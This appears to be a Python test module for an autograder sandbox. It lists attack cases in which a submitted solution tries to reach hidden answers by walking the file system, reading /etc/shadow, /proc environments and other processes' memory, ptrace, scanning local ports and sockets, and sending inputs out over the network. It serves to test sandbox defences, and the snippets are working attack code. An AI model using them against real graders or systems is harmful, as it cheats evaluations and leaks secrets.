"""Reading the answers outside the process: on disk, in /proc, in other processes, by network.

As in `reading_the_process`, an exception reports what was found.
"""

from attack import ALL_ROADS, LAYERS, PACKAGE, SOLUTION, ZIP, Attack
from reading_the_process import ONE_BLOCK_MISSING, steals

ATTACKS = (
    Attack(
        "walks the file system",
        tries="Searches every folder for tests, the solution, gradebooks and others' submissions.",
        must="No points and nothing leaked: the sandbox shows none of these files.",
        baseline=ONE_BLOCK_MISSING,
        changes=steals("""
            import os

            WANTED = ("hidden", "solution", "gradebook", "expected", "grades", "notes", "submitted")
            DULL = ("/proc", "/sys", "/usr", "/lib", "/lib64", "/etc", "/bin", "/sbin", "/opt")

            def steal(dprev):
                leaked, seen = [], 0
                for top in ("/", os.getcwd(), os.path.dirname(__file__) + "/../../../.."):
                    for folder, folders, files in os.walk(top):
                        folders[:] = [f for f in folders if os.path.join(folder, f) not in DULL]
                        for name in files:
                            seen += 1
                            path = os.path.join(folder, name)
                            if any(word in path for word in WANTED) and "python3" not in path:
                                try:
                                    text = open(path, errors="replace").read(99)
                                    leaked.append(f"{path}: {text}")
                                except OSError:
                                    pass
                        if seen > 20000 or len(leaked) > 5:
                            return " | ".join(leaked)
                return " | ".join(leaked) or "nothing here"
        """),
        twin=SOLUTION.plus(
            appended={
                LAYERS: """
                    from pathlib import Path

                    BESIDE = sorted(path.name for path in Path(__file__).parent.iterdir())
                """
            }
        ),
        roads=ALL_ROADS,
    ),
    Attack(
        "opens the usual places by name",
        tries="Opens files where graders keep things: /autograder, /tmp, the home, shared memory.",
        must="No points and nothing leaked: none of these places can be read.",
        baseline=ONE_BLOCK_MISSING,
        changes=steals("""
            import glob, os

            def steal(dprev):
                leaked = []
                for pattern in (
                    "/tmp/**/solution*", "/tmp/**/*.db", "/tmp/**/expected*", "/tmp/*/*",
                    "/var/tmp/*", "/dev/shm/*", "/run/lock/*", "/autograder/**", "/home/*/*",
                    "/root/*", os.path.expanduser("~/*"), "/proc/self/root/*", "/proc/self/cwd/*",
                    "/etc/shadow", "/mnt/*", "/srv/**", "/work*/**", "/github/**", "/builds/**",
                ):
                    for path in glob.glob(pattern, recursive=True)[:50]:
                        try:
                            with open(path, errors="replace") as file:
                                leaked.append(f"{path}: {file.read(60)}")
                        except OSError:
                            pass
                return " | ".join(leaked) or "nothing here"
        """),
        roads=(ZIP,),
    ),
    Attack(
        "imports the grader",
        tries="Imports autograder, the hidden suites and the solution as modules.",
        must="No points: the sandbox cannot import this package.",
        baseline=ONE_BLOCK_MISSING,
        changes=steals("""
            import importlib, sys

            def steal(dprev):
                sys.path[:0] = ["/", "/box", "/app", "/autograder", "..", "../../.."]
                leaked = []
                for name in ("autograder", "autograder.problem_1.rubric", "solution",
                             "autograder.grading.grade", "lib_solution", "tests.hidden.test_fc",
                             "test_fc", "nbgrader"):
                    try:
                        module = importlib.import_module(name)
                        leaked.append(f"{name} is {module}")
                    except ImportError as error:
                        leaked.append(str(error))
                for module in list(sys.modules.values()):
                    if "solution" in str(getattr(module, "__file__", "")):
                        return module.fc.backward
                return "; ".join(leaked)
        """),
    ),
    Attack(
        "reads environments in /proc",
        tries="Searches /proc/*/environ and its own environment for passwords and paths.",
        must=(
            "No points and nothing leaked: its own environment is new, the others are out of sight."
        ),
        baseline=ONE_BLOCK_MISSING,
        changes=steals("""
            import glob, os

            def steal(dprev):
                leaked = [f"{k}={v}" for k, v in os.environ.items() if "PASS" in k or "GRADE" in k]
                for path in glob.glob("/proc/[0-9]*/environ") + ["/proc/self/environ"]:
                    try:
                        text = open(path, "rb").read().decode(errors="replace")
                        leaked += [w for w in text.split("\\0") if "GRADE" in w or "PASS" in w]
                    except OSError as error:
                        leaked.append(str(error)[:20])
                return " | ".join(leaked) or "nothing here"
        """),
        twin=SOLUTION.plus(
            files={PACKAGE: "import os\n\nDEBUG = os.environ.get('DEBUG', 'no') == 'yes'"}
        ),
    ),
    Attack(
        "reads command lines in /proc",
        tries="Reads /proc/*/cmdline of the grader and other processes for seeds and paths.",
        must="No points and nothing leaked: the sandbox sees at most its own processes.",
        baseline=ONE_BLOCK_MISSING,
        changes=steals("""
            import glob

            def steal(dprev):
                leaked = []
                for path in glob.glob("/proc/[0-9]*/cmdline") + ["/proc/1/cmdline"]:
                    try:
                        words = open(path, "rb").read().decode(errors="replace").split("\\0")
                        if "worker.py" not in " ".join(words):
                            leaked.append(" ".join(words))
                    except OSError:
                        pass
                return " | ".join(leaked) or "nothing here"
        """),
    ),
    Attack(
        "reads the memory of other processes",
        tries="Searches /proc/PID/mem of its parent and of every process it can see.",
        must="No points and nothing leaked: the parent is the worker, which holds no answers.",
        baseline=ONE_BLOCK_MISSING,
        changes=steals("""
            import os

            def steal(dprev):
                leaked = []
                for pid in {os.getppid(), 1, *range(max(1, os.getpid() - 40), os.getpid())}:
                    try:
                        maps = open(f"/proc/{pid}/maps").read().splitlines()
                        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                            for line in [line for line in maps if " rw-p " in line][:200]:
                                low, high = (int(x, 16) for x in line.split()[0].split("-"))
                                memory.seek(low)
                                held = memory.read(min(high - low, 2**22))
                                at = held.find(b"canary" + b"-")
                                if at >= 0:
                                    leaked.append(held[at:at + 30].decode(errors="replace"))
                    except (OSError, ValueError, OverflowError) as error:
                        leaked.append(f"{pid}: {type(error).__name__}")
                return " ".join(leaked)
        """),
    ),
    Attack(
        "traces its parent",
        tries="Attaches to the worker with ptrace and process_vm_readv, through ctypes.",
        must="No points: these system calls are denied.",
        baseline=ONE_BLOCK_MISSING,
        changes=steals("""
            import ctypes, os

            def steal(dprev):
                libc = ctypes.CDLL(None, use_errno=True)
                leaked = []
                for pid in (os.getppid(), 1):
                    for request in (16, 0x4206):  # ATTACH, SEIZE
                        result = libc.ptrace(request, pid, 0, 0)
                        leaked.append(f"ptrace {result} {ctypes.get_errno()}")
                    held = ctypes.create_string_buffer(64)
                    local = (ctypes.c_size_t * 2)(ctypes.addressof(held), 64)
                    remote = (ctypes.c_size_t * 2)(id(libc), 64)
                    result = libc.process_vm_readv(pid, local, 1, remote, 1, 0)
                    leaked.append(f"process_vm_readv {result}")
                return "; ".join(leaked)
        """),
    ),
    Attack(
        "follows inherited file descriptors",
        tries="Lists /proc/self/fd, and reads and seeks every descriptor it inherited.",
        must="No points and no file content: only outgoing pipes are inherited.",
        baseline=ONE_BLOCK_MISSING,
        changes=steals("""
            import os

            def steal(dprev):
                leaked = []
                for number in range(256):
                    try:
                        leaked.append(f"{number}: {os.readlink(f'/proc/self/fd/{number}')}")
                    except OSError:
                        pass
                    try:
                        os.set_blocking(number, False)
                        leaked.append(repr(os.pread(number, 60, 0)))
                        leaked.append(repr(os.read(number, 60)))
                    except OSError:
                        pass
                return " ".join(leaked)
        """),
    ),
    Attack(
        "connects to local services",
        tries="Connects to every port of the loopback interface, and to services by name.",
        must="No points and no connection: sockets are not available.",
        baseline=ONE_BLOCK_MISSING,
        changes=steals("""
            import socket, urllib.request

            def steal(dprev):
                leaked = []
                for port in range(1, 65536):
                    try:
                        with socket.create_connection(("127.0.0.1", port), timeout=0.02) as found:
                            leaked.append(f"{port}: {found.recv(60)!r}")
                    except OSError as error:
                        if port == 1:
                            leaked.append(f"{type(error).__name__} {error.errno}")
                        if error.errno == 1:
                            break
                for name in ("\\0grader", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
                    try:
                        with socket.socket(socket.AF_UNIX) as found:
                            found.connect(name)
                            leaked.append(repr(found.recv(60)))
                    except OSError as error:
                        leaked.append(type(error).__name__)
                return " ".join(leaked)
        """),
        twin=SOLUTION.plus(files={PACKAGE: "import socket, urllib.request"}),
        roads=(ZIP,),
    ),
    Attack(
        "phones home",
        tries="Sends the inputs out by HTTP, UDP and DNS, and asks a friend's server for answers.",
        must="No points and nothing sent: there is no network and no resolver.",
        baseline=ONE_BLOCK_MISSING,
        changes=steals("""
            import socket, urllib.request

            def steal(dprev):
                leaked = []
                try:
                    query = dprev.tobytes()[:30].hex()
                    answer = urllib.request.urlopen(f"http://127.0.0.1:8080/{query}", timeout=1)
                    return answer.read()
                except OSError as error:
                    leaked.append(str(error))
                for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_STREAM):
                    for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, 16, 17, 40):
                        try:
                            socket.socket(family, kind).sendto(b"inputs", ("127.0.0.1", 53))
                            leaked.append("sent")
                        except (OSError, TypeError) as error:
                            leaked.append(type(error).__name__)
                try:
                    leaked.append(socket.gethostbyname("localhost"))
                except OSError as error:
                    leaked.append(str(error))
                return " ".join(leaked)
        """),
    ),
)
